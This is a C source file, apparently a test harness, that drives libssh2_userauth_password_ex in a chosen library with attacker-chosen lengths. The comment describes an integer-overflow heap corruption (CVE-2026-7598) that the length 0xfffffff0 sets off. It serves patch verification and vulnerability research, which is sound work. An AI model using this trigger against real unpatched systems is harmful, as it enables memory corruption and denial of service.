/* Loads the libssh2 named by argv[1] and calls libssh2_userauth_password_ex on a session that has no connection.
 *
 * `call LEN` claims that the five-byte user name is LEN bytes long (any C number, 32 bits) and prints `rc N`. The
 * library adds 40 to LEN in 32 bits: 0xfffffff0 wraps to a buffer of 24 bytes and a copy of 4 GiB (CVE-2026-7598).
 * `password LEN` does the same with the password's length. `version` calls a function that no patch touches.
 */
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef void session;

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s libssh2.so.1\n", argv[0]);
        return 2;
    }
    void *library = dlopen(argv[1], RTLD_NOW);
    if (!library) {
        fprintf(stderr, "%s\n", dlerror());
        return 2;
    }
    session *(*start)(void *, void *, void *, void *) = dlsym(library, "libssh2_session_init_ex");
    int (*userauth)(session *, const char *, unsigned, const char *, unsigned, void *) =
        dlsym(library, "libssh2_userauth_password_ex");
    const char *(*version)(int) = dlsym(library, "libssh2_version");
    if (!start || !userauth || !version) {
        fprintf(stderr, "%s has no such functions\n", argv[1]);
        return 2;
    }
    session *s = start(NULL, NULL, NULL, NULL);
    if (!s)
        return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("ready");

    char line[128];
    while (fgets(line, sizeof line, stdin)) {
        line[strcspn(line, "\n")] = 0;
        if (!strncmp(line, "call ", 5)) {
            unsigned user_len = (unsigned)strtoul(line + 5, NULL, 0);
            printf("rc %d\n", userauth(s, "alice", user_len, "secret", 6, NULL));
        } else if (!strncmp(line, "password ", 9)) {
            unsigned pw_len = (unsigned)strtoul(line + 9, NULL, 0);
            printf("rc %d\n", userauth(s, "alice", 5, "secret", pw_len, NULL));
        } else if (!strcmp(line, "version")) {
            puts(version(0));
        } else {
            puts("unknown command");
        }
    }
    return 0;
}
